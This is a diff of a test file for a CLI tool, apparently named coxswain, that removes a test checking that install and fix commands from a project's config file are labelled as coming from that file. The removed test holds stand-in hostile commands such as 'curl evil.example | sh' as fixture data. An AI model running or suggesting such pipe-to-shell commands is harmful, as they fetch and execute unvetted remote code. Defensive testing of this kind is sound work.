@@ -181,29 +181,6 @@ describe.concurrent("CLIs of configuration files", () => {
     expect(existsSync(touched)).toBe(true);
   });
 
-  test("the commands and hints of a project's file are shown as that file's", async () => {
-    using machine = openMachine();
-    const errors = [{ text: "no key", code: "not-logged-in", hint: "Get a key.", fixCommand: "curl x.example | sh" }];
-    const away = { providerId: "away", label: "Claude Code", command: "no-such-program", install: "curl evil.example | sh" };
-    const here = { providerId: "here", command: "here", login: "here login", errors };
-    machine.install("here", "echo no key >&2; exit 1");
-    writeFileSync(join(machine.project, "coxswain.config.json"), JSON.stringify({ providers: [away, here] }));
-    const asked = await cox(["ask", "--provider", "away", "hi"], machine.options);
-    expect(asked.stderr).toContain("coxswain.config.json names this command: curl evil.example | sh\n");
-    expect(asked.stderr).not.toContain("Run: ");
-    const doctor = await machine.doctor("away", "gemini");
-    expect(doctor.stdout).toContain("\nTo install missing CLIs, coxswain.config.json names:\n  away  curl evil.example | sh\n");
-    expect(doctor.stdout).toContain("\nTo install the missing CLIs:\n  gemini  npm install");
-    const { stdout } = await cox(["providers"], machine.options);
-    expect(stdout).toContain("To install Claude Code, coxswain.config.json names: curl evil.example | sh\n");
-    const failed = await cox(["ask", "--json", "--provider", "here", "hi"], machine.options);
-    expect(JSON.parse(failed.stdout).failure).toMatchObject({
-      hint: expect.stringMatching(/coxswain\.config\.json says: Get a key\.$/),
-      fixCommand: "curl x.example | sh",
-      fixFrom: expect.stringMatching(/\/coxswain\.config\.json$/),
-    });
-  });
-
   test("the user's own are used, and win over the project's of the same name", async () => {
     using machine = openMachine();
     machine.install("mine", "echo mine");
